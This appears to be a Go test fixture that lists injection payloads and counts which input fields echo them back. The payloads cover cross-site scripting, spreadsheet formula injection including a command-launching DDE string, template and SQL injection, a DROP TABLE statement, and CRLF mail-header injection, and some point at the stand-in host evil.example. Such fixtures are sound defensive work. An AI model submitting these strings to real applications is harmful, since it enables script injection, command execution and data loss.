package hostile

import (
	"fmt"
	"regexp"
	"strconv"
	"strings"
)

// payloads are the texts by which somebody tries to make a page, a sheet, a mail or a database do something. They come
// in bundles, each of which fits a field of 200 characters and begins with what a spreadsheet would take for a formula
// or a header for its end.
var payloads = [][]string{
	{`=cmd|'/C calc'!A0`, `"'><script>window.__executed=1</script>`, `<img src=x onerror=window.__executed=1>`, `</textarea></title><script>__executed=1</script>`},
	{`+1+1`, `<svg onload=__executed=1><b class=injected>`, `javascript:window.__executed=1`, `' onfocus='__executed=1' autofocus x='`, `<iframe src="//evil.example/">`},
	{`-1+1`, `{{.}}{{printf "%d" 49}}`, `${7*7}`, `#{7*7}<%= 7*7 %>`, `</style><style>@import '//evil.example/x.css'</style>`, `<base href=//evil.example>`},
	{`@SUM(1+1)`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `<form action=//evil.example><button>`, `<!--`, `]]>`, `--><a href="data:text/html,x">`},
	{"\u202e\u2066txet\u2069", "\u200b\u200d\ufeff", "שלום مرحبا", "𝓔𝓿𝓲𝓵", "&lt;script&gt;__executed=1&lt;/script&gt;", `\u003cscript\u003e__executed=1`, "' OR 1=1 --", `"; DROP TABLE users; --`},
	{"＝1+1", "%00%0d%0aX-Evil: 1", `%n%s%!d(MISSING)`, `"}],"evil":[{"`, "`;window.__executed=1;`", "<math><mtext></form><form><mglyph><style></math><img src onerror=__executed=1>"},
}

// broken are payloads that hold what no text should: they come alone, and are mostly refused.
var broken = []string{
	"\r\nBcc: evil@example.org\r\nX-Evil: 1", "\x00\x01\x1b[31m", "\xff\xfe\xc0\xaf", "\xed\xa0\x80\xed\xb0\x80", "\tab=1", "\r=1+1", strings.Repeat("A<b>", 30_000),
}

// bundle is the nth bundle with a tag behind it, by which it is found again wherever it is shown.
func bundle(field, n int) string {
	n %= len(payloads)
	return strings.Join(payloads[n], " ") + " " + tag(field, n)
}

// brief is a payload for a field that takes few words.
func brief(field int) string { return "<svg onload=__executed=1> " + tag(field, 1) }

func tag(field, n int) string { return fmt.Sprintf("zq%dq%dz", field, n) }

var tagged = regexp.MustCompile(`zq(\d+)q(\d+)z`)

// found counts the payloads in a text, and notes which fields they came from.
func found(text string, fields map[int]bool) (n int) {
	seen := map[string]bool{}
	for _, m := range tagged.FindAllStringSubmatch(text, -1) {
		if seen[m[0]] {
			continue
		}
		seen[m[0]] = true
		field, _ := strconv.Atoi(m[1])
		which, _ := strconv.Atoi(m[2])
		fields[field] = true
		n += len(payloads[which])
	}
	return n
}
